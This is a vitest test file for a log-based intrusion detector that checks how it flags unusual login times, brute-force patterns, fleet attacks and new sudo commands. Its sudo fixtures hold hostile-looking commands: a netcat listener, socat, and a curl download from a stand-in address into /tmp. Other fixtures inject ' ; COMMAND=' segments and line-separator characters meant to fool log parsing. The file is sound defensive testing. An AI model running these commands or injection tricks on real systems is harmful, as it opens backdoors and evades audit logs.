// Each judging detector through the matcher and the incident tracker as the pipeline runs them (chunks as they
// arrive, a sweep every minute): when it speaks, what its incident says, and when it stays silent.
import { describe, expect, it } from 'vitest';
import { type Opened, runHost } from '../../../bench/evaluate-detectors.mjs';
import { parseConfig } from '../../../src/config/load.js';
import { IncidentTracker } from '../../../src/incidents/incident-tracker.js';
import { matchChunk, SourceMatcher } from '../../../src/rules/match.js';
import { matchOf } from '../../../src/rules/verdict.js';

const MODULES = { parseConfig, SourceMatcher, matchChunk, IncidentTracker, matchOf };
const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
/** Monday 5 January 2026, 00:00 UTC. */
const MONDAY = Date.UTC(2026, 0, 5);

const stamp = (at: number) => `${new Date(at).toISOString().slice(0, 23)}000+00:00`;
const sshd = (at: number, message: string, pid = 4242) => ({ at, text: `${stamp(at)} web1 sshd[${pid}]: ${message}` });
const failed = (at: number, ip: string, user = 'root') =>
  sshd(at, `Failed password for ${user} from ${ip} port 50000 ssh2`, 1000 + (at % 50_000));
const accepted = (at: number, user: string, ip: string) =>
  sshd(at, `Accepted publickey for ${user} from ${ip} port 50022 ssh2`, 2000 + (at % 50_000));

function run(rule: string, lines: { at: number; text: string }[]): Opened[] {
  return runAll(rule, lines).opened;
}

/** The incidents opened but for the sshd pack's, and each as it grew. */
function runAll(rule: string, lines: { at: number; text: string }[]) {
  const config = `store: { path: ":memory:" }
sources: [{ id: auth, path: /var/log/auth.log }]
rules:
  - { use: sshd, source: auth }
  - ${rule}
`;
  const sorted = [...lines].sort((a, b) => a.at - b.at);
  const host = { host: 'web1', lines: sorted, labels: [], start: sorted[0]!.at, end: sorted.at(-1)!.at };
  const result = runHost(MODULES, host, config);
  return { opened: result.opened.filter((o) => o.rule !== 'sshd'), latest: result.latest };
}

/** alice's working days: a login at 09:10, 11:40, 14:20 and 16:50 on each weekday of `weeks`. */
function workdays(weeks: number, user = 'alice') {
  const out = [];
  for (let day = 0; day < weeks * 7; day++) {
    if (day % 7 >= 5) continue;
    for (const h of [9 + 1 / 6, 11 + 2 / 3, 14 + 1 / 3, 16 + 5 / 6])
      out.push(accepted(MONDAY + day * DAY + h * HOUR, user, '10.0.0.5'));
  }
  return out;
}

describe('unusual-time', () => {
  const rule = '{ detect: unusual-time, source: auth, learn: { timezone: UTC } }';

  it('speaks of a login at an hour the user never logs in, with their usual hours and a sparkline; it does not learn it', () => {
    const night = MONDAY + 15 * DAY + 3 * HOUR + 14 * MINUTE;
    const opened = run(rule, [
      ...workdays(2),
      accepted(night, 'alice', '10.0.0.5'),
      accepted(night + DAY, 'alice', '10.0.0.5'),
    ]);
    expect(opened.map((o) => o.title)).toEqual([
      'alice logged in (publickey) at Tue 03:14, an hour they almost never log in (usually 09:00–17:00, Mon–Fri)',
      'alice logged in (publickey) at Wed 03:14, an hour they almost never log in (usually 09:00–17:00, Mon–Fri)',
    ]);
    expect(opened[0]!.fields).toMatchObject({ logins: '40', hours: '▁▁▁▁▁▁▁▁▁█▁█▁▁█▁█▁▁▁▁▁▁▁ (00–23h)' });
  });

  it('is silent at usual hours, an hour off them, and before 20 logins', () => {
    const day = MONDAY + 15 * DAY;
    expect(
      run(rule, [
        ...workdays(2),
        accepted(day + 10 * HOUR, 'alice', '10.0.0.5'),
        accepted(day + 17.5 * HOUR, 'alice', '10.0.0.5'),
      ]),
    ).toEqual([]);
    expect(run(rule, [...workdays(2).slice(0, 19), accepted(day + 3 * HOUR, 'alice', '10.0.0.5')])).toEqual([]);
  });

  it("reads su's sessions as the activity of the user who ran it, not of the account it opened", () => {
    const at = MONDAY + 15 * DAY + 3 * HOUR + 10 * MINUTE;
    const su = (t: number, by: string) => ({
      at: t,
      text: `${stamp(t)} web1 su[777]: pam_unix(su:session): session opened for user root(uid=0) by ${by}(uid=1000)`,
    });
    const opened = run(rule, [...workdays(2), su(at - HOUR, ''), su(at, 'alice')]);
    expect(opened.map((o) => [o.title, o.fields.target])).toEqual([
      ['alice logged in (su) at Tue 03:10, an hour they almost never log in (usually 09:00–17:00, Mon–Fri)', 'root'],
    ]);
  });

  it('reads hours in its time zone', () => {
    // 02:14 UTC on a Tuesday is 03:14 in Berlin; alice's days are 10:10–17:50 there.
    const opened = run('{ detect: unusual-time, source: auth, learn: { timezone: Europe/Berlin } }', [
      ...workdays(2),
      accepted(MONDAY + 15 * DAY + 2 * HOUR + 14 * MINUTE, 'alice', '10.0.0.5'),
    ]);
    expect(opened.map((o) => o.fields.when)).toEqual(['Tue 03:14']);
  });
});

describe('success-after-failures on the web', () => {
  const access = (at: number, request: string, status: number, user = '-') => {
    const d = new Date(at);
    const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
    const clf = `${String(d.getUTCDate()).padStart(2, '0')}/${months[d.getUTCMonth()]}/${d.getUTCFullYear()}:${d.toISOString().slice(11, 19)} +0000`;
    return {
      at,
      text: `203.0.113.9 - ${user} [${clf}] "${request} HTTP/1.1" ${status} 512 "-" "python-requests/2.31"`,
    };
  };
  const config = `{ use: apache, source: auth }
  - { detect: success-after-failures, source: auth }`;

  it('speaks when a web login form redirects (it let in) after failures from the address; a success alone opens nothing', () => {
    const failures = Array.from({ length: 6 }, (_, k) => access(MONDAY + k * 5000, 'POST /wp-login.php', 200));
    const opened = run(config, [...failures, access(MONDAY + 40_000, 'POST /wp-login.php', 302)]);
    expect(opened.filter((o) => o.rule === 'success-after-failures').map((o) => o.title)).toEqual([
      'someone logged in from 203.0.113.9 after 6 failures in 40s',
    ]);
    expect(run(config, [access(MONDAY, 'POST /wp-login.php', 302)])).toEqual([]);
  });

  it("reads a basic-auth user Apache let in (not nginx's, which any request names), never as a system account", () => {
    // Each guess sends a user: Apache logs the one it refused with the 401.
    const failures = Array.from({ length: 5 }, (_, k) => access(MONDAY + k * 1000, 'GET /admin/', 401, `guess${k}`));
    const opened = run(config, [...failures, access(MONDAY + 9000, 'GET /admin/', 200, 'admin')]).filter(
      (o) => o.rule === 'success-after-failures',
    );
    expect(opened.map((o) => [o.title, o.fields.user])).toEqual([
      ['someone logged in from 203.0.113.9 after 5 failures in 9s', undefined],
    ]);
    const nginx = `{ use: nginx, source: auth }
  - { detect: success-after-failures, source: auth }`;
    const fromNginx = run(nginx, [...failures, access(MONDAY + 9000, 'GET /admin/', 200, 'admin')]);
    expect(fromNginx.filter((o) => o.rule === 'success-after-failures')).toEqual([]);
  });
});

describe('new-login-host', () => {
  const rule = '{ detect: new-login-host, source: auth, learn: { period: 2d } }';
  const on = (at: number, host: string, user = 'alice') => ({
    at,
    text: `${stamp(at)} ${host} sshd[${at % 50_000}]: Accepted publickey for ${user} from 10.0.0.5 port 50022 ssh2`,
  });

  it("speaks of a user's first login on a host of a central log, once it has learned; a host's name case is one", () => {
    const lines = [0, 1, 2, 3].flatMap((d) => [on(MONDAY + d * DAY, 'web1'), on(MONDAY + d * DAY + HOUR, 'WEB2')]);
    lines.push(
      on(MONDAY + DAY + 2 * HOUR, 'db1', 'bob'),
      on(MONDAY + 3 * DAY + 2 * HOUR, 'web2'),
      on(MONDAY + 3 * DAY + 3 * HOUR, 'db1'),
    );
    expect(run(rule, lines).map((o) => o.title)).toEqual([
      'alice logged in on db1 from 10.0.0.5, a host new to them (known: web2, web1)',
    ]);
  });
});

describe('spike', () => {
  const rule = '{ detect: spike, source: auth, learn: { timezone: UTC, period: 2d } }';
  // Two failures every five minutes for three days, from a few addresses.
  const steady = () => {
    const out = [];
    for (let at = MONDAY; at < MONDAY + 3 * DAY; at += 5 * MINUTE) {
      out.push(failed(at + MINUTE, `198.51.100.${(at / MINUTE) % 200}`), failed(at + 3 * MINUTE, '203.0.113.9'));
    }
    return out;
  };
  const burst = (from: number, n: number) =>
    Array.from({ length: n }, (_, k) => failed(from + k * 1000, `192.0.2.${k % 50}`));

  it('speaks when five minutes hold far more than usual for the hour, and learns no spike as usual', () => {
    const at = MONDAY + 3 * DAY + 10 * HOUR;
    const opened = run(rule, [...steady(), ...burst(at, 60), ...burst(at + 2 * HOUR, 60)]);
    expect(opened.map((o) => o.title)).toEqual([
      // Thursday was never seen: every hour's five minutes are the usual (the quiet ones too).
      expect.stringMatching(
        /^auth\.failure on auth: 20 in 5 minutes at Thu 10:00, 1\d× the usual \(1\.\d per 5 min at Thu 10:00, spread 0\.\d; lately at most 2\)$/,
      ),
      // The first spike was not learned: the second is one too.
      expect.stringMatching(/^auth\.failure on auth: 20 in 5 minutes at Thu 12:00, 1\d× the usual/),
    ]);
    expect(opened[0]!.fields.day).toMatch(/^[▁-█]{24} \(usual per hour, Thu 00–23h\)$/);
  });

  it('holds a flood growing by less than 1.5× every five minutes against the peak of the hour before', () => {
    const at = MONDAY + 3 * DAY + 10 * HOUR;
    const ramp = Array.from({ length: 10 }, (_, k) => burst(at + k * 5 * MINUTE, Math.round(10 * 1.45 ** k))).flat();
    const opened = run(rule, [...steady(), ...ramp]);
    expect(opened.map((o) => o.title)).toEqual([
      expect.stringMatching(/^auth\.failure on auth: 2\d in 5 minutes at Thu 10:10, .*; lately at most 2\)$/),
    ]);
  });

  it('catches a flood kept under the floor for an hour and then grown by 1.4× an hour: it cannot teach itself', () => {
    const from = MONDAY + 3 * DAY + HOUR;
    const flood: { at: number; text: string }[] = [];
    for (let k = 0; k < 12 * 12; k++) {
      // Smoothly: each five minutes 1.4^(1/12) times the last.
      const count = Math.round(19 * 1.4 ** (Math.max(0, k - 14) / 12));
      const at = from + k * 5 * MINUTE;
      flood.push(
        ...Array.from({ length: count }, (_, j) => failed(at + Math.floor((j * 290_000) / count), `192.0.2.${j % 50}`)),
      );
    }
    const opened = run(rule, [...steady(), ...flood]);
    expect(opened).toHaveLength(1);
    // Within the first hours of the growth, not after it reached 180 times the usual.
    expect(opened[0]!.at - (from + 14 * 5 * MINUTE)).toBeLessThan(4 * HOUR);
  });

  it('is silent while it learns, and under its floor', () => {
    expect(run(rule, [...steady().filter((l) => l.at < MONDAY + DAY), ...burst(MONDAY + DAY + HOUR, 60)])).toEqual([]);
    expect(run(rule, [...steady(), ...burst(MONDAY + 3 * DAY + 10 * HOUR, 17)])).toEqual([]);
  });
});

describe('distributed-attack', () => {
  const rule = '{ detect: distributed-attack, source: auth }';
  const spread = (from: number, n: number, user = 'alice') =>
    Array.from({ length: n }, (_, k) => failed(from + k * 60_000, `203.0.113.${k + 1}`, user));

  it('speaks when one user fails from 20 addresses within the hour, each under the brute-force threshold', () => {
    const opened = run(rule, spread(MONDAY, 25));
    expect(opened.map((o) => o.title)).toEqual([
      'alice targeted from 20 addresses within 1h, each failing fewer than 5 times',
    ]);
    expect(opened[0]!.at).toBe(MONDAY + 19 * 60_000);
  });

  it("types the user as the packs do (text: a name an attacker typed), and counts an IPv6 host's /64 once", () => {
    const rules = parseConfig(
      'store: { path: ":memory:" }\nsources: [{ id: auth, path: /x }]\nrules: [{ detect: distributed-attack, source: auth }]\n',
      'd.yml',
    ).rules;
    expect(rules[0]!.fields.user).toBe('text');
    const one = Array.from({ length: 25 }, (_, k) => failed(MONDAY + k * 60_000, `2001:db8:1:2::${k + 1}`, 'alice'));
    expect(run(rule, one)).toEqual([]);
  });

  it('counts no address failing 5 times (a brute force of its own), and none out of the window', () => {
    const loud = Array.from({ length: 5 }, (_, k) => failed(MONDAY + k * 1000, '198.51.100.1', 'alice'));
    expect(run(rule, [...spread(MONDAY, 19), ...loud])).toEqual([]);
    const slow = Array.from({ length: 30 }, (_, k) => failed(MONDAY + k * 4 * MINUTE, `203.0.113.${k + 1}`, 'alice'));
    expect(run(rule, slow)).toEqual([]);
  });
});

describe('slow-attack', () => {
  const rule = '{ detect: slow-attack, source: auth }';

  it('speaks of one address failing every few minutes for hours, never five in ten minutes', () => {
    const lines = Array.from({ length: 20 }, (_, k) => failed(MONDAY + k * 8 * MINUTE, '203.0.113.50'));
    const opened = run(rule, lines);
    expect(opened.map((o) => o.title)).toEqual([
      '203.0.113.50 failed to log in 12 times over 1h30m, at most 2 in any 10 minutes: a slow brute force',
    ]);
  });

  it('leaves a fast brute force to the packs', () => {
    const lines = Array.from({ length: 40 }, (_, k) => failed(MONDAY + k * 2 * MINUTE, '203.0.113.50'));
    expect(run(rule, lines)).toEqual([]);
  });
});

describe('source-quiet', () => {
  const rule = '{ detect: source-quiet, source: auth, learn: { timezone: UTC, period: 2d } }';
  const cron = (from: number, until: number) => {
    const out = [];
    for (let at = from; at < until; at += 2 * MINUTE) {
      out.push({
        at,
        text: `${stamp(at)} web1 CRON[1]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`,
      });
    }
    return out;
  };

  it('speaks once a source is silent for far longer than its usual gaps, and not before it learned', () => {
    const silentFrom = MONDAY + 3 * DAY;
    const opened = run(rule, [...cron(MONDAY, silentFrom), ...cron(silentFrom + HOUR, silentFrom + 2 * HOUR)]);
    expect(opened.map((o) => o.title)).toEqual(['auth has been silent for 15m (usually under 2m), since Wed 23:58']);
    expect(opened[0]!.at).toBe(silentFrom - 2 * MINUTE + 15 * MINUTE);
    expect(run(rule, [...cron(MONDAY, MONDAY + DAY), ...cron(MONDAY + DAY + HOUR, MONDAY + DAY + 2 * HOUR)])).toEqual(
      [],
    );
  });
  it('speaks once a source is still written but its rules match nothing for far longer than usual', () => {
    // A Tuesday morning, a week after the same hours were learned.
    const changed = MONDAY + 8 * DAY + 10 * HOUR;
    // A failure every ten minutes with the cron lines, then the failures in a form the rules do not read.
    const failures = (from: number, until: number, form: (at: number) => { at: number; text: string }) =>
      Array.from({ length: Math.floor((until - from) / (10 * MINUTE)) }, (_, k) =>
        form(from + k * 10 * MINUTE + 30_000),
      );
    const reformed = (at: number) => sshd(at, 'authentication failure; rhost=203.0.113.9 user=root (new format)');
    const opened = run(rule.replace('source-quiet', 'source-quiet, id: quiet'), [
      ...cron(MONDAY, changed + 4 * HOUR),
      ...failures(MONDAY, changed, (at) => failed(at, '203.0.113.9')),
      ...failures(changed, changed + 4 * HOUR, reformed),
    ]);
    expect(opened.filter((o) => o.rule === 'quiet').map((o) => o.title)).toEqual([
      'auth is written, but no rule has matched its lines for 30m (usually under 10m): has its format or the config changed?, since Tue 09:50',
    ]);
    // Matches in working hours only (a workday's last at 17:50): the evening is no format change.
    const workdays = Array.from({ length: 14 }, (_, d) =>
      failures(MONDAY + d * DAY + 9 * HOUR, MONDAY + d * DAY + 18 * HOUR, (at) => failed(at, '203.0.113.9')),
    ).flat();
    const evenings = run(rule, [...cron(MONDAY, MONDAY + 14 * DAY), ...workdays]);
    expect(evenings.filter((o) => o.rule === 'source-quiet')).toEqual([]);
    // Where the rules match seldom (under once an hour), nothing is awaited.
    const seldom = run(rule, [
      ...cron(MONDAY, changed + 8 * HOUR),
      ...Array.from({ length: 30 }, (_, k) => failed(MONDAY + k * 2 * HOUR + 30_000, '203.0.113.9')),
    ]);
    expect(seldom.filter((o) => o.rule === 'source-quiet')).toEqual([]);
  });
});

describe('new-sudo-command', () => {
  const rule = '{ detect: new-sudo-command, source: auth, learn: { period: 2d } }';
  const sudo = (at: number, logged: string, user = 'alice') => ({
    at,
    text: `${stamp(at)} web1 sudo[900]: ${user.padStart(8)} : ${logged}`,
  });
  const ran = (at: number, command: string, pwd = '/home/alice') =>
    sudo(at, `TTY=pts/0 ; PWD=${pwd} ; USER=root ; COMMAND=${command}`);
  const usual = () => Array.from({ length: 6 }, (_, d) => ran(MONDAY + d * 12 * HOUR, '/usr/bin/apt update'));

  it('speaks of an executable new to the user, once it has learned for its period', () => {
    const opened = run(rule, [...usual(), ran(MONDAY + 3 * DAY, '/usr/bin/nc -l 4444'), ran(MONDAY + DAY, '/bin/ls')]);
    expect(opened.map((o) => o.title)).toEqual([
      'alice ran /usr/bin/nc as root through sudo, a command new to them (known: /usr/bin/apt, /bin/ls)',
    ]);
  });

  it('is not turned away by a second COMMAND= in the arguments or the directory: a new one among them is told', () => {
    const at = MONDAY + 3 * DAY;
    const opened = run(rule, [
      ...usual(),
      ran(at, '/bin/bash -c true ; USER=root ; COMMAND=/usr/bin/apt'),
      ran(at + HOUR, '/bin/sh', '/tmp/x ; USER=nobody ; COMMAND=/usr/bin/apt'),
      // Both known: whichever ran is usual.
      ran(at + 2 * HOUR, '/usr/bin/apt ; COMMAND=/usr/bin/apt'),
    ]);
    expect(opened.map((o) => o.title)).toEqual([
      'alice ran /bin/bash or /usr/bin/apt as root through sudo, a command new to them (known: /usr/bin/apt; the line names 2 commands, its directory or arguments hold " ; COMMAND=")',
      'alice ran /usr/bin/apt or /bin/sh as nobody or root through sudo, a command new to them (known: /usr/bin/apt; the line names 2 commands, its directory or arguments hold " ; COMMAND=")',
    ]);
  });

  it('is not blinded by a line separator or a carriage return in the arguments or the directory', () => {
    const at = MONDAY + 3 * DAY;
    const opened = run(rule, [
      ...usual(),
      ran(at, '/usr/bin/nc -l 1 \u2028'),
      ran(at + HOUR, '/usr/bin/socat -', '/tmp/\u2029\r'),
    ]);
    expect(opened.map((o) => o.title)).toEqual([
      'alice ran /usr/bin/nc as root through sudo, a command new to them (known: /usr/bin/apt)',
      'alice ran /usr/bin/socat as root through sudo, a command new to them (known: /usr/bin/nc, /usr/bin/apt)',
    ]);
  });

  it('shows every run-as user a line names (ENV= is the caller’s text too), and tells long paths apart', () => {
    const at = MONDAY + 3 * DAY;
    const long = (end: string) => `/tmp/${'d'.repeat(300)}/${end}`;
    const opened = run(rule, [
      ...usual(),
      sudo(at, 'TTY=pts/0 ; PWD=/home/alice ; USER=root ; ENV=X=a ; USER=nobody ; COMMAND=/usr/bin/nc -l 1'),
      ran(at + 2 * HOUR, long('a')),
      ran(at + 4 * HOUR, long('b')),
    ]);
    expect(opened.map((o) => o.title.replace(/d{100,}/, 'd…'))).toEqual([
      'alice ran /usr/bin/nc as root or nobody through sudo, a command new to them (known: /usr/bin/apt)',
      expect.stringMatching(/^alice ran \/tmp\/d……#[0-9a-f]{8} as root through sudo/),
      expect.stringMatching(/^alice ran \/tmp\/d……#[0-9a-f]{8} as root through sudo/),
    ]);
    expect(opened[1]!.key.executable).not.toBe(opened[2]!.key.executable);
  });

  it('reads the command from the rest of a line sudo split, and never a refusal', () => {
    const at = MONDAY + 3 * DAY;
    const opened = run(rule, [
      ...usual(),
      sudo(at, `TTY=pts/0 ; PWD=/tmp/${'a'.repeat(900)} ;`),
      sudo(at, '(command continued) USER=root ; COMMAND=/usr/bin/curl -o /tmp/x http://198.51.100.7/x'),
      sudo(at + HOUR, 'command not allowed ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/wget'),
      // What the rest of a split line names is not learned (it may continue a refusal): curl is new still.
      ran(at + 2 * HOUR, '/usr/bin/curl -V'),
    ]);
    expect(opened.map((o) => o.title)).toEqual([
      'alice ran /usr/bin/curl as root through sudo, a command new to them (known: /usr/bin/apt; read from the rest of a line sudo split, which may continue a refusal)',
      'alice ran /usr/bin/curl as root through sudo, a command new to them (known: /usr/bin/apt)',
    ]);
    expect(opened[0]!.key).toEqual({ user: 'alice', executable: '/usr/bin/curl' });
  });
});

describe('fleet-attack', () => {
  const rule = '{ detect: fleet-attack, source: auth }';
  const on = (at: number, host: string, ip = '203.0.113.7') => ({
    at,
    text: `${stamp(at)} ${host} sshd[${1000 + (at % 50_000)}]: Failed password for root from ${ip} port 50000 ssh2`,
  });

  it('opens one incident when an address fails on three hosts within ten minutes, and grows it as it reaches more', () => {
    const { opened, latest: grown } = runAll(rule, [
      on(MONDAY, 'web1'),
      on(MONDAY + MINUTE, 'web2'),
      on(MONDAY + 2 * MINUTE, 'web2'),
      on(MONDAY + 3 * MINUTE, 'db1'),
      on(MONDAY + 4 * MINUTE, 'mail1'),
      // Another address on two hosts only, and one whose hosts are an hour apart.
      on(MONDAY + MINUTE, 'web1', '198.51.100.1'),
      on(MONDAY + 2 * MINUTE, 'web2', '198.51.100.1'),
      on(MONDAY, 'web1', '198.51.100.2'),
      on(MONDAY + HOUR, 'web2', '198.51.100.2'),
      on(MONDAY + 2 * HOUR, 'web3', '198.51.100.2'),
      // Host names that are none count for no host.
      on(MONDAY, '<!channel>', '198.51.100.3'),
      on(MONDAY, 'web$1', '198.51.100.3'),
      on(MONDAY, 'web1', '198.51.100.3'),
    ]);
    expect(opened.map((o) => o.title)).toEqual(['203.0.113.7 attacking 3 hosts: web1, web2, db1']);
    expect(grown.get('fleet-attack {"ip":"203.0.113.7"}')!.fields).toMatchObject({
      hosts: '4',
      names: 'web1, web2, db1, mail1',
    });
  });
});
